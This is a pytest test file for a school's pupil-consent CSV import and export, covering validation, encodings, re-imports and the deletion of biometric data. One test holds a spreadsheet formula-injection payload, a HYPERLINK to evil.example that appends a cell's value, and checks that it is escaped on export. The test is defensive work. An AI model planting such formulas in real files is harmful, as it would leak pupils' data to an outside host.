import csv
import io
import time

import pytest
import sqlalchemy as sa

from services.consent import adapters, admin, use_cases
from services.consent.domain import BiometricConsent
from shared.errors import InvalidInputError
from tests.unit.consent.fakes import announced, engine_of, sql_ports

GOOD = (
    "pupil_id,forename,surname,class,social_media_consent,biometric_consent\n"
    "A1,Ada,Lovelace,5B,yes,yes\n"
    "B2,Bob,Brown,5B,no,no\n"
    "C3,Cy,Clark,6A,,yes\n"
)


@pytest.fixture()
def ports(tmp_path):
    ports = sql_ports(tmp_path)
    admin.add_school(ports, "oakfield", "Oakfield Primary")
    return ports


def load(ports, text, dry_run=False, encoding="utf-8"):
    data = text.encode(encoding) if isinstance(text, str) else text
    return admin.import_csv(ports, "oakfield", data, by="admin", dry_run=dry_run)


def table_counts(ports):
    with engine_of(ports).connect() as conn:
        return {
            t.name: conn.execute(sa.select(sa.func.count()).select_from(t)).scalar_one()
            for t in (
                adapters.pupils,
                adapters.consent_records,
                adapters.biometric_consents,
                adapters.outbox,
            )
        }


def test_a_good_file_adds_pupils_and_their_consents(ports):
    report = load(ports, GOOD)

    standing = ports.register.standings("oakfield", ["A1", "B2", "C3"])
    assert (report.applied, report.pupils_added, report.consents_changed) == (
        True,
        3,
        2,
    )
    assert {p: s.consents.get(("social_media", None)) for p, s in standing.items()}[
        "C3"
    ] is None
    assert standing["A1"].consents[("social_media", None)].status == "granted"
    assert standing["B2"].consents[("social_media", None)].status == "refused"
    assert ports.views.biometric("oakfield", "B2").status == "refused"
    assert len(announced(ports)) == 2


def test_importing_the_same_file_again_changes_nothing(ports):
    load(ports, GOOD)
    before = table_counts(ports)

    report = load(ports, GOOD)

    assert (report.pupils_unchanged, report.consents_changed) == (3, 0)
    assert table_counts(ports) == before


def test_a_changed_answer_is_a_new_version(ports):
    load(ports, GOOD)

    load(ports, GOOD.replace("A1,Ada,Lovelace,5B,yes", "A1,Ada,Lovelace,5B,withdrawn"))

    assert [r.status for r in ports.views.history("oakfield", "A1")] == [
        "granted",
        "withdrawn",
    ]


def test_typical_mis_headers_are_understood(ports):
    text = (
        "UPN,Legal Forename,Legal Surname,Preferred Forename,Reg Group,Year,"
        "Social Media Consent,Biometric Consent\n"
        "K123456789012,Zoë,Núñez,Zo,3C,Year 3,Y,N\n"
    )

    report = load(ports, text)

    [pupil] = ports.views.pupils("oakfield")
    assert report.applied
    assert (pupil.pupil_id, pupil.surname, pupil.preferred_name, pupil.class_name) == (
        "K123456789012",
        "Núñez",
        "Zo",
        "3C",
    )


def test_a_dry_run_reports_and_changes_nothing(ports):
    report = load(ports, GOOD, dry_run=True)

    assert (report.applied, report.pupils_added, report.consents_changed) == (
        False,
        3,
        2,
    )
    assert table_counts(ports) == {
        "pupils": 0,
        "consent_records": 0,
        "biometric_consents": 0,
        "outbox": 0,
    }


def test_bad_rows_are_reported_by_line_and_nothing_changes(ports):
    text = (
        GOOD + "D4,,Dee,5B,yes,yes\nE5,Eve,Evans,5B,maybe,yes\nA1,Ada,Again,5B,yes,no\n"
    )

    report = load(ports, text)

    assert not report.applied
    assert [(e.line, e.message.split(" ")[0]) for e in report.errors] == [
        (5, "forename"),
        (6, "social_media_consent:"),
        (7, "pupil"),
    ]
    assert "repeats line 2" in report.errors[2].message
    assert table_counts(ports)["pupils"] == 0


def test_a_file_that_is_not_utf8_is_refused_with_its_line(ports):
    text = GOOD + "F6,Françoise,Dupont,5B,yes,yes\n"

    with pytest.raises(InvalidInputError, match="line 5: the file is not UTF-8"):
        load(ports, text, encoding="cp1252")
    assert table_counts(ports)["pupils"] == 0


def test_a_utf16_excel_export_is_read(ports):
    report = load(ports, GOOD.replace(",", "\t"), encoding="utf-16")

    assert report.pupils_added == 3


@pytest.mark.parametrize(
    "text",
    ["", "forename,surname\nAda,Lovelace\n", "\x00\x01binary", "pupil_id\n"],
    ids=["empty", "no pupil id column", "binary", "no name columns"],
)
def test_an_unreadable_file_is_a_clear_error(ports, text):
    with pytest.raises(InvalidInputError):
        load(ports, text.encode() or b"")


def test_formula_injection_is_stored_as_text_and_escaped_on_export(ports):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    text = (
        "pupil_id,forename,surname,class,social_media_consent,biometric_consent\n"
        f'X1,"{evil.replace(chr(34), chr(34) * 2)}",+Plus,@cls,yes,no\n'
    )

    load(ports, text)
    exported = list(csv.reader(io.StringIO(admin.export_csv(ports, "oakfield"))))

    [pupil] = ports.views.pupils("oakfield")
    assert pupil.forename == evil
    assert exported[1][1:3] == ["'" + evil, "'+Plus"]
    assert exported[1][5] == "'@cls"


def test_the_export_round_trips_through_the_import(ports):
    load(ports, GOOD)
    exported = admin.export_csv(ports, "oakfield").encode()

    report = load(ports, exported)

    assert (report.pupils_unchanged, report.consents_changed) == (3, 0)


def test_a_leaving_date_or_withdrawn_biometric_consent_deletes_encodings(ports):
    load(ports, GOOD)
    use_cases.enrol(ports.relayed_unit(), "oakfield", "A1", [[0.1] * 128], "admin")
    use_cases.enrol(ports.relayed_unit(), "oakfield", "C3", [[0.2] * 128], "admin")
    text = (
        "pupil_id,forename,surname,class,social_media_consent,biometric_consent,"
        "leaving date\n"
        "A1,Ada,Lovelace,5B,yes,yes,01/03/2025\n"
        "C3,Cy,Clark,6A,,withdrawn,\n"
    )

    report = load(ports, text)

    assert report.encodings_deleted == 2
    assert ports.views.enrolled("oakfield", "A1") == 0
    assert ports.views.enrolled("oakfield", "C3") == 0
    assert ports.views.pupil("oakfield", "A1").on_roll is False


def test_fifty_thousand_rows_import_in_one_go(ports):
    lines = ["pupil_id,forename,surname,class,social_media_consent,biometric_consent"]
    lines += [f"P{i:05d},Pupil{i},Surname{i},C{i % 30},yes,no" for i in range(50_000)]
    started = time.perf_counter()

    report = load(ports, "\n".join(lines) + "\n")

    took = time.perf_counter() - started
    assert (report.applied, report.pupils_added, report.consents_changed) == (
        True,
        50_000,
        50_000,
    )
    assert took < 60, f"50k rows took {took:.1f} s"
    assert ports.views.biometric("oakfield", "P49999") == BiometricConsent(
        "P49999", "refused", False, 1
    )


def test_the_change_an_import_announces_cites_the_record_it_stored(ports):
    # Approval compares these references with the ones a photo's decision rested
    # on: a reference to record 0 would make every late announcement look new.
    load(ports, GOOD)

    stored = ports.register.standings("oakfield", ["A1"])["A1"]
    wide = stored.consents[("social_media", None)]
    [a1] = [e for e in announced(ports) if e.pupil_id == "A1"]
    [scope] = a1.scopes
    assert wide.record_id > 0
    assert scope.version == wide.ref
